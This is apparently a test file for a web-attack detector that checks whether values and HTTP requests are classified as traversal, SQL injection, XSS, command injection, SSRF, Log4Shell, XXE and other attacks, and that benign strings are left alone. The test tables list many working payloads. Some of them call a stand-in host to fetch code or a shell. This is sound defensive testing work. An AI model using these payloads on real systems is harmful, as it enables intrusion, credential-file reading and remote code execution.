import { describe, expect, it } from 'vitest';
import { KINDS } from './attack-kinds.ts';
import { inspect, inspectValue } from './inspect.ts';
import type { AttackKind, WebFinding, WebRequest } from './web-inspection.types.ts';

const kindsOf = (findings: readonly WebFinding[]): AttackKind[] => [...new Set(findings.map(({ kind }) => kind))];
const get = (target: string, headers?: WebRequest['headers']): WebRequest => ({ method: 'GET', target, headers });

describe('a value', () => {
  it.each<[AttackKind, string]>([
    ['traversal', '../../../../etc/passwd'],
    ['traversal', '..%2f..%2f..%2fwindows/win.ini'],
    ['traversal', '....//....//etc/shadow'],
    ['traversal', '/var/log/apache2/access.log'],
    ['traversal', '..\\..\\boot.ini'],
    ['file-inclusion', 'php://filter/convert.base64-encode/resource=index'],
    ['file-inclusion', 'http://198.51.100.9/shell.txt?'],
    ['sql-injection', "1' or '1'='1"],
    ['sql-injection', "admin'--"],
    ['sql-injection', '1 and sleep(5)'],
    ['sql-injection', '-1 union all select null,version(),3#'],
    ['sql-injection', '1;drop table users'],
    ['sql-injection', '1 order by 12--'],
    ['sql-injection', "x' || (select pg_sleep(5)) || '"],
    ['sql-injection', '1/**/UnIoN/**/sElEcT/**/1,2,3'],
    ['sql-injection', "1;waitfor delay '0:0:5'--"],
    ['sql-injection', '1 and 1=(select count(*) from tabname)'],
    ['sql-injection', "' and extractvalue(1,concat(0x5c,version()))-- -"],
    ['sql-injection', "1'; exec master..xp_cmdshell 'dir'--"],
    ['sql-injection', '/*!50000select*/ user from mysql.user where 1=1'],
    ['nosql-injection', '{"$gt":""}'],
    ['nosql-injection', "' || this.password.match(/.*/)//"],
    ['xss', '<script>alert(1)</script>'],
    ['xss', '"><img src=x onerror=alert(1)>'],
    ['xss', "';alert(document.cookie)//"],
    ['xss', 'java\tscript:alert(1)'],
    ['xss', '&#x3c;svg onload=confirm(1)&#x3e;'],
    ['xss', '\\u003cscript\\u003ealert(1)'],
    ['command-injection', ';cat /etc/hosts'],
    ['command-injection', '|id'],
    ['command-injection', '`whoami`'],
    ['command-injection', '$(curl http://198.51.100.9/a)'],
    ['command-injection', "8.8.8.8;c'a't${IFS}/tmp/x"],
    ['command-injection', '127.0.0.1 && ping -c 10 127.0.0.1'],
    ['command-injection', '() { :; }; echo x'],
    ['command-injection', 'x|powershell -enc SQBFAFgA'],
    ['ssrf', 'http://127.0.0.1:8080/admin'],
    ['ssrf', 'http://169.254.169.254/latest/meta-data/'],
    ['ssrf', 'http://[::1]/'],
    ['ssrf', 'gopher://10.0.0.1:6379/_x'],
    ['ssrf', 'http://2130706433/'],
    ['template-injection', '{{7*7}}'],
    ['template-injection', '${7*7}'],
    ['template-injection', "{{''.__class__.__mro__}}"],
    ['template-injection', '<%= 7*7 %>'],
    ['template-injection', '#{7*7}'],
    ['log4shell', '${jndi:ldap://198.51.100.9/a}'],
    ['log4shell', '${${::-j}${::-n}${::-d}${::-i}:ldap://198.51.100.9/a}'],
    ['log4shell', '${${lower:j}${upper:n}di:dns://x}'],
    ['php-injection', "<?php system('id');"],
    ['php-injection', 'phpinfo()'],
    ['php-injection', 'O:8:"stdClass":1:{s:1:"a";i:1;}'],
    ['java-injection', '%{(#_memberAccess["allowStaticMethodAccess"]=true)}'],
    ['java-injection', "T(java.lang.Runtime).getRuntime().exec('id')"],
    ['java-injection', 'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA'],
    ['node-injection', "require('child_process').exec('id')"],
    ['node-injection', '{"__proto__":{"admin":true}}'],
    ['xxe', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'],
    ['ldap-injection', '*)(uid=*))(|(uid=*'],
    ['xpath-injection', "' or count(/*)=1 or 'a'='b"],
    ['xpath-injection', "x']/ancestor::node()"],
    ['header-injection', 'x\r\nSet-Cookie: a=b'],
    ['mail-injection', 'x\r\nRCPT TO: <a@example.org>'],
    ['request-smuggling', 'x\r\nGET /admin HTTP/1.1'],
    ['api-introspection', '{__schema{types{name}}}'],
  ])('%s: %j', (kind, text) => {
    expect(kindsOf(inspectValue(text))).toContain(kind);
  });

  it.each([
    'union was a great select',
    "D'or 1st parfume",
    "O'Reilly and sons",
    'Select one or the other from the list, and drop us a line',
    'cat and dog; more tomorrow',
    'Tom & Jerry | Home',
    'curl and divergence',
    'ls 300 lexus',
    'The "order by" in the house = 3 days',
    'a < b and c > d',
    'I <3 you',
    'JavaScript: the good parts',
    'price > 100 and size in (S, M)',
    'see https://www.example.com/a?b=1&c=2#d',
    'C++ / C# developer (m/f/d)',
    'John.Doe+news@example.org',
    '2026-11-21T10:00:00+01:00',
    '{"id":17,"tags":["a","b"],"note":"it\'s ok"}',
    'd41d8cd98f00b204e9800998ecf8427e',
    'eyJhbGciOiJIUzI1NiJ9',
    'line one\nline two; id of the user: 5',
    '50% off: buy 2, get 1 free!',
    'hello... world',
    'the {name} of the [thing]',
    '#hashtag -- really',
    'Was heißt "sleep" auf Deutsch?',
  ])('is quiet: %j', (text) => {
    expect(inspectValue(text)).toEqual([]);
  });
});

describe('a request', () => {
  it.each<[string, WebRequest]>([
    ['a plain one', get('/a/b.html?x=1&y=two+words', { host: 'a', accept: 'text/html,*/*;q=0.8', cookie: 'a=b; c=d' })],
    [
      'an API call',
      {
        method: 'POST',
        target: '/api',
        headers: { 'Content-Type': 'application/json' },
        body: '{"a":"b","c":[1,{"d":null}]}',
      },
    ],
    [
      'an upload',
      {
        method: 'POST',
        target: '/up',
        headers: { 'content-type': 'multipart/form-data; boundary=b' },
        body: '--b\r\nContent-Disposition: form-data; name="f"; filename="a.pdf"\r\n\r\nhello\r\n--b--\r\n',
      },
    ],
    [
      'an XML call',
      {
        method: 'POST',
        target: '/soap',
        headers: { 'content-type': 'text/xml' },
        body: '<?xml version="1.0"?><a b="c"><image>d</image></a>',
      },
    ],
    ['a whole URL', get('http://www.example.org/a?b=c')],
    ['none', get('')],
  ])('is quiet: %s', (_name, request) => {
    expect(inspect(request)).toEqual([]);
  });

  it.each<[AttackKind, WebRequest]>([
    ['sensitive-file', get('/.git/config')],
    ['sensitive-file', get('/app/.env')],
    ['sensitive-file', get('/backup.sql')],
    ['sensitive-file', get('/index.php~')],
    ['backdoor-hunting', get('/images/c99.php')],
    ['backdoor-hunting', get('/uploads/2026/x7f.php')],
    ['admin-panel', get('/phpMyAdmin/index.php')],
    ['admin-panel', get('/wp-login.php')],
    ['known-vulnerability', get('/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php')],
    ['known-vulnerability', get('/cgi-bin/.%2e/.%2e/bin/sh')],
    ['known-vulnerability', get('/index.php?s=/Index/\\think\\app/invokefunction')],
    ['scanner', get('/', { 'User-Agent': 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None)' })],
    ['request-smuggling', get('/', { 'Content-Length': '4', 'Transfer-Encoding': 'chunked' })],
    ['request-smuggling', get('/', { 'content-length': ['4', '5'] })],
    ['request-smuggling', get('/', { 'transfer-encoding': 'xchunked' })],
    ['protocol-attack', { method: 'TRACE', target: '/' }],
    ['protocol-attack', { method: '\x16\x03\x01', target: '/' }],
    ['protocol-attack', get('/', { proxy: 'http://198.51.100.9/' })],
    ['known-vulnerability', get('/', { range: 'bytes=0-18446744073709551615' })],
    ['header-injection', get('/%0d%0aSet-Cookie:a=b')],
    ['session-fixation', get('/login?PHPSESSID=abc', { host: 'a.example', referer: 'https://b.example/x' })],
    [
      'dangerous-upload',
      {
        method: 'POST',
        target: '/',
        headers: { 'content-type': 'multipart/form-data; boundary="b"' },
        body: '--b\r\nContent-Disposition: form-data; name="f"; filename="a.php"\r\n\r\nx\r\n--b--',
      },
    ],
    ['dangerous-upload', get('/', { 'X-File-Name': 'a.jsp' })],
    ['xss', get('/a?<meta http-equiv=set-cookie content="a=b">')],
    ['nosql-injection', get('/u?name[$ne]=x')],
    ['nosql-injection', get('/u?user__password__startswith=a')],
    [
      'xxe',
      { method: 'POST', target: '/', body: '<?xml version="1.0"?><!DOCTYPE a SYSTEM "http://198.51.100.9/a.dtd"><a/>' },
    ],
    [
      'sql-injection',
      { method: 'POST', target: '/', headers: { 'content-type': 'text/xml' }, body: "<a><b>1' or '1'='1</b></a>" },
    ],
    [
      'sql-injection',
      {
        method: 'POST',
        target: '/',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ a: [{ b: '1 or 1=1' }] }),
      },
    ],
    ['traversal', { method: 'POST', target: '/', body: Buffer.from('f=../../../etc/passwd') }],
  ])('%s: %j', (kind, request) => {
    expect(kindsOf(inspect(request))).toContain(kind);
  });

  it('says where an attack stands, and what hid it', () => {
    const [found] = inspect(get(`/a?x=1&q=${encodeURIComponent(encodeURIComponent("1' or '1'='1"))}`));
    expect(found).toEqual({
      kind: 'sql-injection',
      technique: 'T1190',
      severity: 'high',
      confidence: 85,
      place: { in: 'query', name: 'q' },
      evidence: "' or '1'='1",
      encodings: ['percent'],
    });
    expect(inspect(get('/', { cookie: 'a=b; c=%24%28id%29' }))[0]?.place).toEqual({ in: 'cookie', name: 'c' });
    expect(inspect(get('/?<script>alert(1)</script>=x'))[0]?.place).toMatchObject({ in: 'query', inName: true });
  });

  it.each<[string, string]>([
    ['base64', Buffer.from("1' union select 1,2 from users--").toString('base64')],
    ['utf-7', '+ADw-script+AD4-x+ADw-/script+AD4-'],
    ['unicode', '\uff1cscript\uff1ex'],
    ['escape', '\\x3cscript\\x3ealert(1)'],
    ['hex', '0x2e0x2e0x2f0x2e0x2e0x2fetc/passwd'],
    ['html', '&lt;script&gt;x'],
  ])('looks behind %s', (encoding, text) => {
    expect(inspectValue(text).some(({ encodings }) => encodings.includes(encoding))).toBe(true);
  });

  it('is not sure of one step up, as relative links take it', () => {
    expect(inspect(get('/docs/a?from=../b/c.html'))).toMatchObject([{ kind: 'traversal', confidence: 50 }]);
  });

  it('finds what stands behind much padding, and stays within its bounds', () => {
    const padding = 'A'.repeat(128 * 1024);
    expect(kindsOf(inspect({ target: '/', body: `a=${padding};<script>alert(1)</script>` }))).toContain('xss');
    const many = Array.from({ length: 5000 }, (_, i) => `p${i}=<script>alert(${i})</script>`).join('&');
    const found = inspect(get(`/?${many}`));
    expect(found).toHaveLength(32);
    for (const { evidence } of inspect(get(`/?${'n'.repeat(999)}=${'../'.repeat(9999)}etc/passwd`)))
      expect(evidence.length).toBeLessThanOrEqual(160);
  });
});

it('knows the facts of each kind', () => {
  for (const facts of Object.values(KINDS)) {
    expect(facts.technique).toMatch(/^T\d{4}(\.\d{3})?$/);
    expect(facts.tactic).toMatch(/^TA\d{4}$/);
  }
});
